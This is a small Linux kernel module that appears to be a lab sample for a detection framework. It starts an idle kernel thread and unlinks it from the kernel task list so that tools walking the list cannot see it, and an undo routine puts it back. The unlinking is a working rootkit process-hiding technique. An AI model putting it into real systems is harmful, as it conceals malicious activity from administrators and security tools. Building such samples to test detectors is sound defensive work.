// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A thread of the module is taken off the list of tasks, and so out of what walks it. */
#include "attack.h"

#include <linux/kthread.h>
#include <linux/sched/signal.h>

static struct task_struct *thread;

static int idle(void *unused)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(HZ);
	return 0;
}

static int attack(void)
{
	rwlock_t *lock = (rwlock_t *)symbol("tasklist_lock");

	if (!lock)
		return -ENOENT;
	thread = kthread_run(idle, NULL, "lab_hidden");
	if (IS_ERR(thread))
		return PTR_ERR(thread);
	write_lock_irq(lock);
	list_del_rcu(&thread->tasks);
	write_unlock_irq(lock);
	return 0;
}

static void undo(void)
{
	rwlock_t *lock = (rwlock_t *)symbol("tasklist_lock");

	write_lock_irq(lock);
	list_add_tail_rcu(&thread->tasks, &init_task.tasks);
	write_unlock_irq(lock);
	kthread_stop(thread);
}

ATTACK("a task that is not on the list of tasks");
